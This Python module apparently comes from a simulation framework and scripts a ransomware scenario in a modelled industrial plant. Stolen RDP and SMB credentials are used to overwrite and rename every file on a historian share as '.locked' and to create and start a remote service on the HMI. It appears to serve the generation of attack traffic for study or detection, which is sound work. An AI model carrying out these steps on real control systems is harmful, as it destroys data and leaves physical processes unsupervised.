"""The engineering station is logged on to, the historian's files are locked, the panel is stopped."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from interlock.plant.accounts import BACKUP, DOMAIN
from interlock.plant.actors.steps import Ask, Close, Link, Wait
from interlock.plant.actors.windows import (
    SHARE,
    call,
    log_on,
    log_on_to_desktop,
    open_pipe,
)
from interlock.plant.attacks.logon import Logon
from interlock.plant.attacks.scenario import Scenario, Scene
from interlock.plant.machines import BY_NAME
from interlock.plant.protocols import rdp, smb, svcctl

if TYPE_CHECKING:
    from interlock.plant.actors.steps import Script

__all__ = ["SCENARIO"]

_LOCKED_OCTETS: Final = 512
_SERVICE: Final = "UpdateAgent"
_PROGRAM: Final = "C:\\Windows\\Temp\\agent.exe --all"


def _script(scene: Scene) -> Script:
    desktop, stolen = Link("vendor-laptop", "engineering", 3389), scene.accounts.engineer
    address = BY_NAME["vendor-laptop"].ip
    login = rdp.Login(DOMAIN, stolen.user, stolen.password, "VENDOR-LAPTOP", address)
    yield from log_on_to_desktop(desktop, login, scene.keyring.visitor())
    yield Wait(scene.draws.uniform(20.0, 30.0))
    yield from _lock_files(scene)
    yield from _run_service(scene)
    yield Close(desktop)


def _lock_files(scene: Scene) -> Script:
    """Ask for the historian's shares, then overwrite and rename everything in the one that holds files."""
    link = Link("engineering", "historian", 445)
    client = yield from log_on(link, scene, scene.accounts.windows[BACKUP])
    if client is None:
        return
    yield from open_pipe(link, client, "historian", svcctl.SRVSVC)
    yield from call(link, client, *svcctl.share_enum("historian"))
    client.connected((yield Ask(link, client.connect_tree("historian", SHARE)))[0])
    client.opened((yield Ask(link, client.open("", folder=True)))[0])
    listed = yield Ask(link, client.list())
    yield Ask(link, client.close())
    for name in smb.names_of(listed[0]):
        client.opened((yield Ask(link, client.open(name)))[0])
        yield Ask(link, client.write(bytes(scene.draws.number(8) for _ in range(_LOCKED_OCTETS))))
        yield Ask(link, client.rename(f"{name}.locked"))
        yield Ask(link, client.close())
        yield Wait(scene.draws.uniform(0.05, 0.2))
    for message in (client.leave_tree(), client.log_off()):
        yield Ask(link, message)
    yield Close(link)


def _run_service(scene: Scene) -> Script:
    """Create a service on the panel and start it."""
    link = Link("engineering", "hmi", 445)
    client = yield from log_on(link, scene, scene.accounts.windows[BACKUP])
    if client is None:
        return
    yield from open_pipe(link, client, "hmi", svcctl.SVCCTL)
    manager = svcctl.handle_of(
        (yield from call(link, client, *svcctl.open_manager("hmi"))), svcctl.OPEN_MANAGER
    )
    made = yield from call(link, client, *svcctl.create_service(manager, _SERVICE, _PROGRAM))
    service = svcctl.handle_of(made, svcctl.CREATE_SERVICE)
    yield from call(link, client, *svcctl.start_service(service))
    for handle in (service, manager):
        yield from call(link, client, *svcctl.close_handle(handle))
    yield Wait(scene.draws.uniform(20.0, 30.0))
    yield Ask(link, client.log_off())
    yield Close(link)


SCENARIO: Final = Scenario(
    name="ransomware",
    title="Over the engineering station's desktop, the historian's files are locked and the panel is stopped",
    technique="T0829",
    also=("T0886", "T0859", "T0809", "T0881"),
    attacker="vendor-laptop",
    victims=("engineering", "historian", "hmi"),
    harm="Operators see nothing and can switch nothing: well, filler and breaker are left to themselves.",
    script=_script,
    logons=(
        Logon(machine="engineering", service="RDP", user="engineer", how="stolen"),
        Logon(machine="historian", service="SMB", user=BACKUP, how="stolen"),
        Logon(machine="hmi", service="SMB", user=BACKUP, how="stolen"),
    ),
)
